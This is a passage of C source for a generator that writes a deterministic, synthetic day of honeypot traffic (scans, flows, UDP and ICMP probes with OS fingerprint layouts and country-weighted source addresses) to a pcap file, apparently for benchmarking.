/* vigia-gen-day: writes a deterministic, realistic-looking day of honeypot
 * traffic as a classic pcap file.  The traffic model is documented in
 * bench/gen-day.md; keep the two in step.
 *
 * Packets are written by hand rather than through pcap_dump(): a day is ten
 * million records and the per-call overhead of pcap_dump() plus stdio would
 * dominate; one big buffer flushed with fwrite() keeps generation I/O-bound.
 * Everything random comes from our own xoshiro256** so that the same seed and
 * arguments give a byte-identical file on every platform (the pcap file is
 * always written little-endian). */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <math.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#define PROG "vigia-gen-day"

/* ------------------------------------------------------------------ PRNG */

struct rng { uint64_t s[4]; };

static uint64_t splitmix64(uint64_t *x)
{
	uint64_t z = (*x += 0x9e3779b97f4a7c15ULL);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static void rng_seed(struct rng *r, uint64_t seed, uint64_t stream)
{
	uint64_t x = seed ^ (stream * 0xd1b54a32d192ed03ULL);
	for (int i = 0; i < 4; i++)
		r->s[i] = splitmix64(&x);
}

static inline uint64_t rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

static inline uint64_t rnext(struct rng *r)
{
	uint64_t *s = r->s;
	uint64_t res = rotl(s[1] * 5, 7) * 9, t = s[1] << 17;
	s[2] ^= s[0]; s[3] ^= s[1]; s[1] ^= s[2]; s[0] ^= s[3];
	s[2] ^= t; s[3] = rotl(s[3], 45);
	return res;
}

/* Lemire's multiply-shift without the rejection step: the bias is below
 * 2^-32 per draw, irrelevant for synthetic traffic and faster. */
static inline uint32_t rbelow(struct rng *r, uint32_t n)
{
	return (uint32_t)(((rnext(r) >> 32) * (uint64_t)n) >> 32);
}

static inline uint32_t rrange(struct rng *r, uint32_t lo, uint32_t hi)
{
	return lo + rbelow(r, hi - lo + 1);
}

static inline double runit(struct rng *r) { return (double)(rnext(r) >> 11) * 0x1p-53; }

static inline bool rchance(struct rng *r, double p) { return runit(r) < p; }

/* Ports that tcpdump 4.99 hands to a protocol printer by source or
 * destination (udp.c/tcp.c).  Random bytes on them make tcpdump print extra
 * lines, and "tcpdump -r | wc -l == N" is part of the contract, so random
 * ports avoid them; payloads on chosen ports are well-formed instead. */
static const uint16_t printer_ports[] = {
	1645, 1646, 1700, 1701, 1723, 1812, 1813, 1589, 1985, 2049, 2103, 2104, 3456,
	3503, 3784, 3785, 3799, 4341, 4342, 4500, 4567, 4784, 4789, 4790, 5060, 5061,
	5246, 5247, 5353, 5355, 5359, 6081, 6343, 6633, 6635, 6653, 6696, 6697, 6784,
	7500, 8231, 8472, 8500, 10288, 12222, 12223, 17754, 30490, 49152,
};

static bool printer_port(uint16_t p)
{
	if (p < 1024 || (p >= 7000 && p <= 7009))
		return true;
	for (size_t i = 0; i < sizeof printer_ports / sizeof *printer_ports; i++)
		if (printer_ports[i] == p)
			return true;
	return false;
}

static uint16_t safe_port(struct rng *r, uint16_t lo, uint16_t hi)
{
	uint16_t p;
	do
		p = (uint16_t)rrange(r, lo, hi);
	while (printer_port(p));
	return p;
}

/* -------------------------------------------------------------- helpers */

static void die(const char *fmt, ...) __attribute__((format(printf, 1, 2), noreturn));
static void die(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	fprintf(stderr, PROG ": ");
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
	exit(2);
}

static void *xcalloc(size_t n, size_t sz)
{
	void *p = calloc(n ? n : 1, sz);
	if (!p)
		die("out of memory (%zu x %zu bytes)", n, sz);
	return p;
}

static inline void be16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static inline void be32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24); p[1] = (uint8_t)(v >> 16); p[2] = (uint8_t)(v >> 8); p[3] = (uint8_t)v;
}
static inline void le16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); }
static inline void le32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); p[2] = (uint8_t)(v >> 16); p[3] = (uint8_t)(v >> 24);
}

/* Internet checksum summed in native order: by RFC 1071's byte-order
 * independence the folded native sum, stored natively, is the right value.
 * Segments passed to one accumulation must have even lengths except the last. */
static inline uint64_t csum_add(uint64_t sum, const uint8_t *p, size_t n)
{
	while (n >= 4) {
		uint32_t v;
		memcpy(&v, p, 4);
		sum += v;
		p += 4; n -= 4;
	}
	if (n >= 2) {
		uint16_t v;
		memcpy(&v, p, 2);
		sum += v;
		p += 2; n -= 2;
	}
	if (n) {
		uint8_t b[2] = { p[0], 0 };
		uint16_t v;
		memcpy(&v, b, 2);
		sum += v;
	}
	return sum;
}

static inline uint16_t csum_fold(uint64_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static inline void csum_store(uint8_t *p, uint16_t c) { memcpy(p, &c, 2); }

/* ------------------------------------------------------ address tables */

struct range4 { uint32_t start, count; uint16_t cc; };
struct range6 { uint8_t pfx[16]; uint8_t plen; uint16_t cc; };

/* Country codes are packed as two letters in a uint16_t. */
static uint16_t cc_pack(const char *s) { return (uint16_t)(((unsigned)s[0] << 8) | (unsigned)s[1]); }

/* Fallback when no RIR file is given: real delegations taken from the test
 * copies of the RIR files (tests/data/rir), so countries stay checkable. */
static const struct { const char *cc, *start; uint32_t count; } builtin4[] = {
	{"CN","1.0.32.0",8192},{"CN","27.106.128.0",16384},{"CN","42.63.0.0",65536},
	{"US","60.254.128.0",16384},{"US","12.0.0.0",16777216},{"US","13.64.0.0",2097152},
	{"US","15.0.0.0",4194304},
	{"BR","67.159.224.0",8192},{"BR","177.8.224.0",4096},{"BR","177.27.0.0",32768},
	{"RU","2.60.0.0",262144},{"RU","31.7.224.0",4096},{"RU","37.49.160.0",8192},
	{"IN","1.6.0.0",131072},{"IN","58.68.0.0",32768},{"IN","111.91.0.0",32768},
	{"VN","1.52.0.0",262144},{"VN","125.214.0.0",16384},
	{"KR","1.11.0.0",65536},{"KR","42.16.0.0",1048576},{"KR","61.40.0.0",262144},
	{"TW","1.34.0.0",131072},{"TW","61.218.0.0",131072},{"TW","118.99.128.0",32768},
	{"DE","2.160.0.0",1048576},{"DE","31.209.80.0",4096},{"DE","46.163.64.0",16384},
	{"NL","5.2.64.0",4096},{"NL","46.229.160.0",4096},{"NL","62.251.0.0",32768},
	{"ID","27.50.16.0",4096},{"ID","119.82.224.0",4096},{"ID","182.28.0.0",131072},
	{"FR","2.0.0.0",1048576},{"FR","62.106.64.0",8192},{"FR","80.82.224.0",4096},
	{"GB","2.24.0.0",524288},{"GB","31.205.0.0",65536},{"GB","62.6.0.0",65536},
	{"IR","2.144.0.0",262144},{"IR","46.164.64.0",16384},{"IR","85.185.0.0",65536},
	{"TR","5.11.128.0",32768},{"TR","77.92.96.0",8192},{"TR","94.54.0.0",131072},
	{"UA","5.1.0.0",8192},{"UA","46.247.128.0",32768},{"UA","80.90.224.0",4096},
	{"JP","1.0.16.0",4096},{"JP","27.127.0.0",32768},{"JP","49.242.0.0",16384},
	{"TH","1.0.128.0",32768},{"TH","111.223.32.0",8192},{"TH","202.5.80.0",4096},
	{"AR","24.232.0.0",65536},{"AR","181.85.0.0",32768},{"AR","186.4.64.0",16384},
	{"MX","131.178.0.0",65536},{"MX","148.243.0.0",65536},{"MX","187.251.128.0",8192},
	{"HK","1.32.128.0",32768},{"HK","112.118.0.0",131072},{"HK","125.215.128.0",32768},
	{"SG","14.100.0.0",65536},{"SG","116.51.0.0",65536},{"SG","153.20.0.0",65536},
	{"RO","5.2.128.0",32768},{"RO","77.36.0.0",32768},{"RO","91.251.0.0",65536},
	{"IT","2.32.0.0",1048576},{"IT","37.206.0.0",131072},{"IT","77.42.0.0",32768},
	{"PL","5.57.128.0",16384},{"PL","46.187.128.0",32768},{"PL","77.242.224.0",4096},
	{"CO","148.222.224.0",4096},{"CO","186.84.0.0",262144},{"CO","190.24.0.0",65536},
	{"EG","41.32.0.0",1048576},{"EG","194.79.96.0",8192},
	{"ZA","41.0.0.0",2097152},{"ZA","41.216.176.0",4096},{"ZA","102.132.0.0",4096},
	{"PK","14.192.128.0",8192},{"PK","202.44.80.0",4096},
	{"BG","5.53.128.0",32768},{"BG","80.72.80.0",4096},{"BG","89.106.96.0",8192},
	{"ES","2.136.0.0",524288},{"ES","62.81.0.0",65536},{"ES","80.224.0.0",65536},
	{"CL","138.84.32.0",8192},{"CL","186.34.0.0",131072},{"CL","190.100.0.0",65536},
	{"VE","129.90.0.0",65536},{"VE","190.123.176.0",4096},{"VE","201.238.0.0",8192},
	{"PH","1.37.0.0",65536},{"PH","121.96.0.0",131072},{"PH","202.123.48.0",4096},
	{"BD","27.0.96.0",8192},{"BD","203.88.96.0",4096},
	{"NG","41.58.0.0",65536},{"NG","196.220.0.0",8192},
	{"KE","41.57.96.0",4096},{"KE","197.248.0.0",65536},
	{"MA","41.87.128.0",8192},{"CA","15.195.0.0",65536},
	{"SE","2.64.0.0",524288},{"SE","62.127.0.0",65536},{"SE","80.84.32.0",4096},
};

static const struct { const char *cc, *pfx; uint8_t plen; } builtin6[] = {
	{"CN","2001:254::",32},{"CN","2400:7680::",32},{"DE","2001:638::",32},
	{"DE","2001:15f0::",32},{"BR","2001:1288::",32},{"BR","2801:a6::",32},
	{"JP","2001:c30::",32},{"JP","2001:ff0::",32},{"US","2803:6080::",29},
	{"NL","2001:6e0::",32},{"NL","2a00:cb8::",32},{"IN","2001:e48::",32},
	{"RU","2001:a58::",32},{"RU","2a00:1640::",32},{"ZA","2001:4200::",32},
};

/* Share of attacking sources per country, in percent.  Shaped after public
 * honeypot summaries (DShield/SANS ISC source reports, Honeynet Project
 * papers): China and the US lead, then Brazil, Russia, India, Vietnam, ...
 * Countries found in the RIR data but not listed share REST_SHARE. */
static const struct { const char *cc; double pct; } cc_weights[] = {
	{"CN",20},{"US",14},{"BR",7},{"RU",6},{"IN",5},{"VN",4},{"KR",3.5},{"TW",3},
	{"DE",3},{"NL",2.5},{"ID",2.5},{"FR",2},{"GB",2},{"IR",2},{"TR",1.5},{"UA",1.5},
	{"JP",1.5},{"TH",1.2},{"AR",1.2},{"MX",1.2},{"HK",1},{"SG",1},{"RO",1},{"IT",1},
	{"PL",1},{"CO",0.8},{"EG",0.8},{"ZA",0.8},{"PK",0.8},{"BG",0.6},{"ES",0.8},
	{"CL",0.6},{"VE",0.5},{"PH",0.8},{"BD",0.6},{"NG",0.4},{"KE",0.3},{"MA",0.4},
	{"CA",0.8},{"SE",0.5},
};
#define REST_SHARE 5.0

struct addrdb {
	struct range4 *r4; size_t n4, cap4;
	struct range6 *r6; size_t n6, cap6;
	const char *origin;
};

static void db_add4(struct addrdb *db, uint16_t cc, uint32_t start, uint32_t count)
{
	if (db->n4 == db->cap4) {
		db->cap4 = db->cap4 ? db->cap4 * 2 : 4096;
		db->r4 = realloc(db->r4, db->cap4 * sizeof *db->r4);
		if (!db->r4)
			die("out of memory");
	}
	db->r4[db->n4++] = (struct range4){ start, count, cc };
}

static void db_add6(struct addrdb *db, uint16_t cc, const uint8_t *pfx, uint8_t plen)
{
	if (db->n6 == db->cap6) {
		db->cap6 = db->cap6 ? db->cap6 * 2 : 1024;
		db->r6 = realloc(db->r6, db->cap6 * sizeof *db->r6);
		if (!db->r6)
			die("out of memory");
	}
	struct range6 *r = &db->r6[db->n6++];
	memcpy(r->pfx, pfx, 16);
	r->plen = plen;
	r->cc = cc;
}

/* Reads one RIR statistics exchange file; keeps allocated/assigned ranges
 * with a real two-letter country.  Header, summary and comment lines are
 * skipped because their cc field is not two upper-case letters. */
static void db_load_file(struct addrdb *db, const char *path)
{
	FILE *f = fopen(path, "r");
	if (!f)
		die("cannot open RIR file %s: %s", path, strerror(errno));
	char line[1024];
	unsigned long lineno = 0;
	while (fgets(line, sizeof line, f)) {
		lineno++;
		char *fld[8] = { 0 };
		int nf = 0;
		char *save = NULL;
		line[strcspn(line, "\r\n")] = 0;
		for (char *t = strtok_r(line, "|", &save); t && nf < 8; t = strtok_r(NULL, "|", &save))
			fld[nf++] = t;
		/* strtok collapses empty fields, so an empty cc shifts the
		 * fields left and the type test below rejects the line. */
		if (nf < 7 || line[0] == '#')
			continue;
		const char *cc = fld[1], *type = fld[2], *status = fld[6];
		if (strlen(cc) != 2 || cc[0] < 'A' || cc[0] > 'Z' || cc[1] < 'A' || cc[1] > 'Z' ||
		    !strcmp(cc, "ZZ") || !strcmp(cc, "EU") || !strcmp(cc, "AP"))
			continue;
		if (strcmp(status, "allocated") && strcmp(status, "assigned"))
			continue;
		char *end;
		unsigned long v = strtoul(fld[4], &end, 10);
		if (*end || v == 0)
			continue;
		if (!strcmp(type, "ipv4")) {
			struct in_addr a;
			if (inet_pton(AF_INET, fld[3], &a) != 1 || v > (1UL << 24))
				continue;
			db_add4(db, cc_pack(cc), ntohl(a.s_addr), (uint32_t)v);
		} else if (!strcmp(type, "ipv6")) {
			uint8_t a[16];
			if (inet_pton(AF_INET6, fld[3], a) != 1 || v < 16 || v > 64)
				continue;
			db_add6(db, cc_pack(cc), a, (uint8_t)v);
		}
	}
	if (ferror(f))
		die("read error in %s after line %lu", path, lineno);
	fclose(f);
}

static int cmp_name(const struct dirent **a, const struct dirent **b)
{
	return strcmp((*a)->d_name, (*b)->d_name);
}

/* Directories are read in name order so that the file order, and with it
 * the output, does not depend on the filesystem. */
static void db_load_path(struct addrdb *db, const char *path)
{
	struct stat st;
	if (stat(path, &st) != 0)
		die("cannot stat %s: %s", path, strerror(errno));
	if (!S_ISDIR(st.st_mode)) {
		db_load_file(db, path);
		return;
	}
	struct dirent **ents;
	int n = scandir(path, &ents, NULL, cmp_name);
	if (n < 0)
		die("cannot list %s: %s", path, strerror(errno));
	for (int i = 0; i < n; i++) {
		if (!strncmp(ents[i]->d_name, "delegated-", 10)) {
			char p[4096];
			snprintf(p, sizeof p, "%s/%s", path, ents[i]->d_name);
			db_load_file(db, p);
		}
		free(ents[i]);
	}
	free(ents);
}

static int cmp_r4(const void *a, const void *b)
{
	const struct range4 *x = a, *y = b;
	return x->start < y->start ? -1 : x->start > y->start;
}

/* Registries disagree for a few blocks (files of different years); such
 * blocks would make the "true" country ambiguous, so both are dropped. */
static void db_drop_overlaps(struct addrdb *db)
{
	if (db->n4 == 0)
		return;
	qsort(db->r4, db->n4, sizeof *db->r4, cmp_r4);
	bool *bad = xcalloc(db->n4, 1);
	uint64_t maxend = 0;
	size_t maxi = 0;
	for (size_t i = 0; i < db->n4; i++) {
		uint64_t s = db->r4[i].start, e = s + db->r4[i].count;
		if (i && s < maxend) {
			bad[i] = true;
			bad[maxi] = true;
		}
		if (e > maxend) {
			maxend = e;
			maxi = i;
		}
	}
	size_t k = 0;
	for (size_t i = 0; i < db->n4; i++)
		if (!bad[i])
			db->r4[k++] = db->r4[i];
	db->n4 = k;
	free(bad);
}

/* ---------------------------------------------------------- OS layouts */

enum os_kind { OS_STACK, OS_NMAP, OS_MASSCAN, OS_MIRAI };

struct os_def {
	const char *name;      /* our name, written to --sources-out */
	const char *p0f;       /* label p0f v3 (p0f.fp of 3.09b) should print */
	uint8_t ittl;
	bool df;
	uint16_t win;          /* fixed window, or 0 with winmss */
	uint8_t winmss;        /* window = mss * winmss */
	int8_t ws;             /* window scale, -1 none */
	const char *layout;    /* M mss, N nop, W ws, S sok, T ts, E eol+1 */
	double share;          /* percent of sources */
	enum os_kind kind;
};

/* Layouts follow the [tcp:request] sig lines of /etc/p0f/p0f.fp (p0f 3.09b).
 * Shares: Windows and embedded Linux dominate honeypot SYNs; Mirai-style
 * raw-socket scanners are a large share of 23/2323 traffic. */
static const struct os_def os_tab[] = {
	{ "winxp",     "Windows XP",               128, true, 65535, 0, -1, "MNNS",     8,  OS_STACK },
	{ "win7",      "Windows 7 or 8",           128, true, 8192,  0, 8,  "MNWNNS",   20, OS_STACK },
	{ "win10",     "Windows NT kernel",        128, true, 64240, 0, 8,  "MNWNNS",   7,  OS_STACK },
	{ "linux311",  "Linux 3.11 and newer",     64,  true, 0,    20, 7,  "MSTNW",    15, OS_STACK },
	{ "linux31",   "Linux 3.1-3.10",           64,  true, 0,    10, 7,  "MSTNW",    5,  OS_STACK },
	{ "linux26",   "Linux 2.6.x",              64,  true, 0,     4, 7,  "MSTNW",    8,  OS_STACK },
	{ "linux22",   "Linux 2.2.x-3.x",          64,  true, 65535, 0, 9,  "MSTNW",    4,  OS_STACK },
	{ "freebsd",   "FreeBSD 9.x or newer",     64,  true, 65535, 0, 6,  "MNWST",    3,  OS_STACK },
	{ "openbsd",   "OpenBSD 4.x-5.x",          64,  true, 16384, 0, 3,  "MNNSNWNNT", 1.5, OS_STACK },
	{ "macosx",    "Mac OS X 10.x",            64,  true, 65535, 0, 3,  "MNWNNTSE", 2.5, OS_STACK },
	{ "solaris10", "Solaris 10",               64,  true, 0,    34, 0,  "MNWNNS",   1,  OS_STACK },
	{ "nmap",      "NMap SYN scan",            64,  false, 1024, 0, -1, "M",        3,  OS_NMAP },
	{ "masscan",   "",                         255, false, 1024, 0, -1, "",         4,  OS_MASSCAN },
	{ "mirai",     "",                         64,  false, 0,    0, -1, "",         15, OS_MIRAI },
	{ "unknown",   "",                         64,  true, 65535, 0, 5,  "MNNTNW",   3,  OS_STACK },
};
#define N_OS (sizeof os_tab / sizeof os_tab[0])
enum { OSI_WINXP, OSI_WIN7, OSI_WIN10, OSI_MASSCAN = 12, OSI_MIRAI = 13, OSI_NMAP = 11 };

struct os_opts {
	uint8_t b[40];
	uint8_t len, ts_off, ws_off, mss_off; /* offsets into b; 0xff = absent */
};

static void os_build_opts(const struct os_def *o, struct os_opts *out)
{
	uint8_t *b = out->b;
	size_t n = 0;
	out->ts_off = out->ws_off = out->mss_off = 0xff;
	for (const char *c = o->layout; *c; c++) {
		switch (*c) {
		case 'M': out->mss_off = (uint8_t)n; b[n++] = 2; b[n++] = 4; b[n++] = 0x05; b[n++] = 0xb4; break;
		case 'N': b[n++] = 1; break;
		case 'W': out->ws_off = (uint8_t)n; b[n++] = 3; b[n++] = 3; b[n++] = (uint8_t)o->ws; break;
		case 'S': b[n++] = 4; b[n++] = 2; break;
		case 'T': out->ts_off = (uint8_t)n; b[n++] = 8; b[n++] = 10; memset(b + n, 0, 8); n += 8; break;
		case 'E': b[n++] = 0; b[n++] = 0; break; /* eol followed by one pad byte */
		}
	}
	while (n % 4)
		b[n++] = 0;
	out->len = (uint8_t)n;
}

/* ------------------------------------------------------------- sources */

struct source {
	uint32_t ip;
	uint32_t tsbase;
	uint16_t cc;
	uint16_t mss;
	uint16_t ipid;
	uint16_t sport;       /* next ephemeral port for real stacks */
	uint8_t os;
	uint8_t ttl;          /* observed TTL at the sensor */
};

struct source6 {
	uint8_t ip[16];
	uint16_t cc;
	uint8_t os;
	uint8_t ttl;
};

/* ------------------------------------------------------------ honeynets */

struct net4 { uint32_t base, size; };
struct net6 { uint8_t pfx[16]; uint8_t plen; };

/* --------------------------------------------------------- session model */

enum kind { K_SCAN, K_SWEEP, K_STEALTH, K_FLOW, K_UDP, K_ICMP, K_FRAG, K_V6, K_ARP, K_MISS };

enum svc {
	SV_NONE, SV_SMB, SV_TELNET, SV_SSH, SV_HTTP, SV_TDS, SV_RDP, SV_DCE, SV_PROXY,
	SV_SOCKS, SV_SMTP, SV_VNC, SV_TLS, SV_DOOM,
	SV_SLAMMER, SV_NBNS, SV_DNS, SV_SNMP, SV_SSDP, SV_NTP, SV_SIP, SV_MESSENGER,
	SV_TFTP, SV_UDPTAIL,
};

enum pref { PF_ANY, PF_WIN, PF_MIRAI, PF_MASSCAN, PF_NMAP };

struct recipe {
	enum kind kind;
	uint16_t port;        /* 0: drawn from a tail list */
	enum svc svc;
	double share;         /* percent of inbound packets aimed at */
	double mean_len;      /* mean packets per session of this recipe */
	enum pref pref;
};

/* Packet shares (percent of inbound packets): TCP ~75 (of which ~70% SYNs),
 * UDP ~20, ICMP ~5, plus traces of fragments, IPv6, ARP and misdirected
 * packets.  The port ranking follows long-running honeypot statistics:
 * 445 first (Conficker/WannaCry descendants), 23 and 2323 (Mirai), 22, 80,
 * 1433, 3389, 8080, 135, 139 ...  mean_len must match the counts drawn in
 * sess_new(); weights are share/mean_len so that shares hold per packet. */
static const struct recipe recipes[] = {
	/* horizontal SYN scans: mean 8 SYNs, retransmissions included */
	{ K_SCAN, 445,  SV_NONE, 11.0, 8, PF_WIN },
	{ K_SCAN, 23,   SV_NONE, 8.0,  8, PF_MIRAI },
	{ K_SCAN, 22,   SV_NONE, 5.0,  8, PF_ANY },
	{ K_SCAN, 80,   SV_NONE, 3.5,  8, PF_ANY },
	{ K_SCAN, 1433, SV_NONE, 2.5,  8, PF_WIN },
	{ K_SCAN, 3389, SV_NONE, 2.5,  8, PF_ANY },
	{ K_SCAN, 8080, SV_NONE, 1.8,  8, PF_ANY },
	{ K_SCAN, 135,  SV_NONE, 1.6,  8, PF_WIN },
	{ K_SCAN, 139,  SV_NONE, 1.2,  8, PF_WIN },
	{ K_SCAN, 25,   SV_NONE, 0.7,  8, PF_ANY },
	{ K_SCAN, 3128, SV_NONE, 0.6,  8, PF_ANY },
	{ K_SCAN, 1080, SV_NONE, 0.5,  8, PF_ANY },
	{ K_SCAN, 5900, SV_NONE, 0.7,  8, PF_ANY },
	{ K_SCAN, 2323, SV_NONE, 1.5,  8, PF_MIRAI },
	{ K_SCAN, 443,  SV_NONE, 0.9,  8, PF_ANY },
	{ K_SCAN, 0,    SV_NONE, 2.4,  8, PF_ANY },
	/* masscan-like vertical sweeps of one address over many ports */
	{ K_SWEEP, 0,   SV_NONE, 4.0, 100, PF_MASSCAN },
	{ K_STEALTH, 0, SV_NONE, 0.5, 20, PF_NMAP },
	/* established-looking flows: SYN, ACK, data segments, FIN/RST */
	{ K_FLOW, 445,  SV_SMB,    6.0, 8.5, PF_WIN },
	{ K_FLOW, 23,   SV_TELNET, 4.0, 9.5, PF_ANY },
	{ K_FLOW, 22,   SV_SSH,    5.0, 8.5, PF_ANY },
	{ K_FLOW, 80,   SV_HTTP,   4.0, 4.7, PF_ANY },
	{ K_FLOW, 8080, SV_HTTP,   1.0, 4.7, PF_ANY },
	{ K_FLOW, 8080, SV_PROXY,  0.5, 4.0, PF_ANY },
	{ K_FLOW, 1433, SV_TDS,    1.0, 5.0, PF_WIN },
	{ K_FLOW, 3389, SV_RDP,    1.0, 4.0, PF_ANY },
	{ K_FLOW, 135,  SV_DCE,    1.0, 6.0, PF_WIN },
	{ K_FLOW, 3128, SV_PROXY,  0.6, 4.0, PF_ANY },
	{ K_FLOW, 1080, SV_SOCKS,  0.4, 5.0, PF_ANY },
	{ K_FLOW, 25,   SV_SMTP,   0.4, 7.0, PF_ANY },
	{ K_FLOW, 5900, SV_VNC,    0.3, 6.0, PF_ANY },
	{ K_FLOW, 443,  SV_TLS,    0.5, 4.0, PF_ANY },
	{ K_FLOW, 3127, SV_DOOM,   0.1, 6.0, PF_WIN },
	{ K_FLOW, 2323, SV_TELNET, 0.3, 9.5, PF_ANY },
	/* UDP: mostly single datagrams sprayed over several honeypots */
	{ K_UDP, 1434, SV_SLAMMER,   4.0, 4, PF_WIN },
	{ K_UDP, 137,  SV_NBNS,      3.0, 3, PF_ANY },
	{ K_UDP, 53,   SV_DNS,       3.0, 3, PF_ANY },
	{ K_UDP, 161,  SV_SNMP,      1.5, 3, PF_ANY },
	{ K_UDP, 1900, SV_SSDP,      1.5, 3, PF_ANY },
	{ K_UDP, 123,  SV_NTP,       1.5, 3, PF_ANY },
	{ K_UDP, 5060, SV_SIP,       1.5, 3, PF_ANY },
	{ K_UDP, 1026, SV_MESSENGER, 0.8, 3, PF_ANY },
	{ K_UDP, 1027, SV_MESSENGER, 0.6, 3, PF_ANY },
	{ K_UDP, 1028, SV_MESSENGER, 0.3, 3, PF_ANY },
	{ K_UDP, 69,   SV_TFTP,      0.5, 3, PF_ANY },
	{ K_UDP, 0,    SV_UDPTAIL,   1.8, 3, PF_ANY },
	/* ICMP echo sweeps */
	{ K_ICMP, 0, SV_NONE, 4.8, 8, PF_ANY },
	/* rare shapes */
	{ K_FRAG, 0, SV_NONE, 0.15, 2.6, PF_ANY },
	{ K_V6,   0, SV_NONE, 0.08, 3, PF_ANY },
	{ K_ARP,  0, SV_NONE, 0.01, 1, PF_ANY },
	{ K_MISS, 0, SV_NONE, 0.05, 2, PF_ANY },
};
#define N_RECIPES (sizeof recipes / sizeof recipes[0])

/* Frequently probed ports outside the head of the distribution. */
static const uint16_t tcp_tail[] = {
	21, 81, 88, 110, 143, 444, 1023, 1723, 2222, 2375, 3306, 4444, 5431, 5432,
	5554, 5555, 6379, 7001, 7547, 8000, 8081, 8088, 8443, 8888, 9000, 9200, 9996,
	10000, 11211, 27017, 37215, 49152, 52869, 60001, 6667, 1900, 3127, 8291, 502, 102,
};
static const uint16_t udp_tail[] = {
	11211, 19, 389, 3702, 5353, 17185, 7, 47808, 10001, 520, 111, 1194, 3283, 5683, 623,
};

#define PAYMAX 4096
#define MAXMSG 12

struct sess {
	const struct recipe *r;
	enum kind kind;
	uint32_t src;         /* index into the v4 or v6 source pool */
	uint32_t dst;
	uint8_t dst6[16];
	uint16_t sport, dport, vlan;
	uint16_t left;        /* packets still to emit */
	uint16_t step;
	uint32_t seq, srv_isn;
	uint16_t icmp_id, icmp_seq;
	uint8_t stealth_flags;
	uint8_t variant;
	bool v6_tcp, seq_dst;
	/* flows and fragments: messages laid out in payload[] */
	uint8_t nmsg, mi;
	uint16_t moff[MAXMSG], mlen[MAXMSG];
	uint16_t done;        /* bytes of the current message already sent */
	uint16_t plen;
	uint8_t payload[PAYMAX];
};

/* A reply the sensor sends back, emitted as the very next packet. */
struct reply {
	bool pending;
	enum { R_SYNACK, R_RST, R_ACK, R_ECHO, R_UNREACH } type;
	uint32_t hp, peer;    /* honeypot (our side) and attacker addresses */
	uint16_t hport, pport, vlan;
	uint32_t seq, ack;
	uint16_t qlen;
	uint8_t quote[128];   /* start of the packet being answered */
};

/* --------------------------------------------------------------- output */

#define LT_ETH 1
#define LT_RAW 101
#define LT_SLL 113

struct out {
	FILE *f;
	uint8_t *buf;
	size_t len, cap;
	int linktype;
	bool ns;
	uint32_t ts_sec, ts_frac;
	uint8_t *rec;         /* start of the record being built */
	uint64_t bytes;
};

static void out_flush(struct out *o)
{
	if (o->len && fwrite(o->buf, 1, o->len, o->f) != o->len)
		die("write failed: %s", strerror(errno));
	o->bytes += o->len;
	o->len = 0;
}

static const uint8_t mac_sensor[6] = { 0x00, 0x16, 0x3e, 0x5a, 0x17, 0x01 };
static const uint8_t mac_router[6] = { 0x00, 0x1c, 0x73, 0x0d, 0x42, 0x9f };

/* Starts a record and its link header; returns where the network layer
 * goes.  Replies leave the sensor, so MACs and SLL packet type flip. */
static uint8_t *rec_begin(struct out *o, bool outbound, uint16_t vlan, uint16_t ethertype)
{
	if (o->cap - o->len < 4096)
		out_flush(o);
	o->rec = o->buf + o->len;
	uint8_t *p = o->rec + 16;
	if (o->linktype == LT_ETH) {
		memcpy(p, outbound ? mac_router : mac_sensor, 6);
		memcpy(p + 6, outbound ? mac_sensor : mac_router, 6);
		p += 12;
		if (vlan) {
			be16(p, 0x8100);
			be16(p + 2, vlan);
			p += 4;
		}
		be16(p, ethertype);
		p += 2;
	} else if (o->linktype == LT_SLL) {
		be16(p, outbound ? 4 : 0);
		be16(p + 2, 1);
		be16(p + 4, 6);
		memcpy(p + 6, outbound ? mac_sensor : mac_router, 6);
		p[12] = p[13] = 0;
		be16(p + 14, ethertype);
		p += 16;
	}
	return p;
}

/* Receiving NICs hand up the Ethernet minimum-frame padding, so short
 * frames are captured as 60 bytes; decoders must trust the IP length. */
static void rec_end(struct out *o, const uint8_t *l3end)
{
	uint8_t *p = (uint8_t *)l3end;
	size_t link = (size_t)(p - (o->rec + 16));
	if (o->linktype == LT_ETH && link < 60) {
		memset(p, 0, 60 - link);
		link = 60;
	}
	le32(o->rec, o->ts_sec);
	le32(o->rec + 4, o->ts_frac);
	le32(o->rec + 8, (uint32_t)link);
	le32(o->rec + 12, (uint32_t)link);
	o->len += 16 + link;
}

/* ------------------------------------------------------- packet writers */

struct ip4h {
	uint32_t src, dst;
	uint16_t id, frag;    /* frag: offset in 8-byte units | 0x2000 (MF) */
	uint8_t ttl, proto;
	bool df;
	const uint8_t *opt;
	uint8_t optlen;       /* multiple of 4 */
};

static uint8_t *put_ip4(uint8_t *p, const struct ip4h *h, size_t l4len)
{
	size_t hl = 20 + h->optlen;
	p[0] = (uint8_t)(0x40 | (hl / 4));
	p[1] = 0;
	be16(p + 2, (uint16_t)(hl + l4len));
	be16(p + 4, h->id);
	be16(p + 6, (uint16_t)(h->frag | (h->df ? 0x4000 : 0)));
	p[8] = h->ttl;
	p[9] = h->proto;
	p[10] = p[11] = 0;
	be32(p + 12, h->src);
	be32(p + 16, h->dst);
	if (h->optlen)
		memcpy(p + 20, h->opt, h->optlen);
	csum_store(p + 10, csum_fold(csum_add(0, p, hl)));
	return p + hl;
}

static uint64_t pseudo4(uint32_t src, uint32_t dst, uint8_t proto, size_t len)
{
	uint8_t ph[12];
	be32(ph, src);
	be32(ph + 4, dst);
	ph[8] = 0;
	ph[9] = proto;
	be16(ph + 10, (uint16_t)len);
